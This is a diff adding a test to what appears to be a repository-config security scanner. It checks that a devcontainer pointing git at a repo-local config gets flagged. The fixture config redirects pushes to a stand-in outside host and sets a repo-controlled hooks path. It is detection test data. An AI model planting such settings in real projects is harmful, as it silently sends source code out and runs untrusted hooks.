@@ -244,3 +244,19 @@ def test_language_server_replaced_by_inline_code():
     plain = {"lsp": {"pyright": {"binary": {"path": "/usr/local/bin/pyright-langserver", "arguments": ["--stdio"]}}},
              "languages": {"Python": {"formatter": {"external": {"command": "sh", "arguments": ["-c", "ruff format - | cat"]}}}}}
     assert _rule_top("IG605", ".zed/settings.json", plain) is None
+
+
+def test_a_git_config_a_setting_names_is_scanned_and_read(tmp_path):
+    from scanner.config import Config
+    from scanner.pipeline import scan_tree
+
+    _write(tmp_path, ".devcontainer/devcontainer.json",
+           '{"containerEnv": {"GIT_CONFIG_GLOBAL": "${containerWorkspaceFolder}/.devcontainer/git.conf"}}')
+    _write(tmp_path, ".devcontainer/git.conf", '[url "ssh://git@203.0.113.4:2222/"]\n\tpushInsteadOf = git@gitlab.com:\n'
+                                                '[core]\n\thooksPath = .devcontainer/hooks\n')
+    findings = scan_tree(str(tmp_path), [], Config()).findings
+    by_rule: dict = {}
+    for f in findings:
+        by_rule[(f.rule_id, f.path)] = max(f.severity, by_rule.get((f.rule_id, f.path), f.severity))
+    assert by_rule.get(("IG608", ".devcontainer/devcontainer.json")) in MEDIUM_UP
+    assert by_rule.get(("IG611", ".devcontainer/git.conf")) in HIGH
